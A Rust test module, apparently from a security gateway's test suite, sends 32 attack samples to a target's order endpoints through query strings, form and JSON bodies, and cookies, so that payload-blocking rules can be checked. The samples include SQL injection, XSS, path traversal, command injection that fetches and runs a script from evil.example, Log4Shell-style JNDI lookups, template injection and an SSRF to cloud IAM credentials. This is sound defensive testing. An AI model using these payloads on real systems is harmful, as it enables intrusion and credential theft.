//! Injection, scripting, traversal and their kin, by somebody with a good token.

use portcullis_tests::client::Call;
use serde_json::json;

use crate::report::Wave;
use crate::target::{Attacker, Target};

/// One of each kind that the payload rules of level 1 are for.
const SAMPLES: [&str; 32] = [
    // SQL
    "1' or '1'='1",
    "1' OR 1=1 -- -",
    "admin'--",
    "1 UNION SELECT username, password FROM users",
    "1'; DROP TABLE orders; --",
    "1' AND SLEEP(5)-- -",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0",
    "'; EXEC xp_cmdshell('dir'); --",
    // Script
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "\"><script src=//evil.example/x.js></script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    // Files
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "file:///etc/shadow",
    // Commands
    "; cat /etc/passwd",
    "| id; uname -a",
    "$(curl http://evil.example/x.sh | sh)",
    "`wget http://evil.example/x`",
    "& ping -c 10 127.0.0.1 &",
    "() { :;}; /bin/bash -c 'id'",
    // Expressions and templates
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:rmi://evil.example/a}",
    "{{7*7}}{{config.items()}}",
    "<%= system('id') %>",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    // Where the server may be sent to
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
];

/// Sends every sample as `call` makes it, each under a name of its own so that no limit comes first.
fn each(name: &'static str, target: &Target, call: impl Fn(&str) -> Vec<(&'static str, Call)>) -> Wave {
    let mut wave = Wave::new(name);
    let mut attacker: Attacker<'_> = target.attacker();
    for sample in SAMPLES {
        for (place, call) in call(sample) {
            wave.add(&format!("{place}: {sample}"), attacker.call(&call.bearer(&target.good())));
        }
    }
    wave
}

/// In the query.
pub fn in_queries(target: &Target) -> Wave {
    each("payloads in queries", target, |sample| {
        vec![("query", Call::get(&format!("/orders/17?q={}", encoded(sample))))]
    })
}

/// In bodies: a form, and JSON.
pub fn in_bodies(target: &Target) -> Wave {
    each("payloads in bodies", target, |sample| {
        let post = |kind: &str, body: String| Call::new("POST", "/orders").header("content-type", kind).body(body);
        vec![
            ("form", post("application/x-www-form-urlencoded", format!("item=bread&note={}", encoded(sample)))),
            ("JSON", post("application/json", json!({"item": "bread", "notes": [{"text": sample}]}).to_string())),
        ]
    })
}

/// In a cookie.
pub fn in_headers(target: &Target) -> Wave {
    each("payloads in cookies", target, |sample| {
        vec![("cookie", Call::get("/orders/17").header("cookie", &format!("theme={}", encoded(sample))))]
    })
}

/// Percent-encoded, all but letters and digits.
fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}
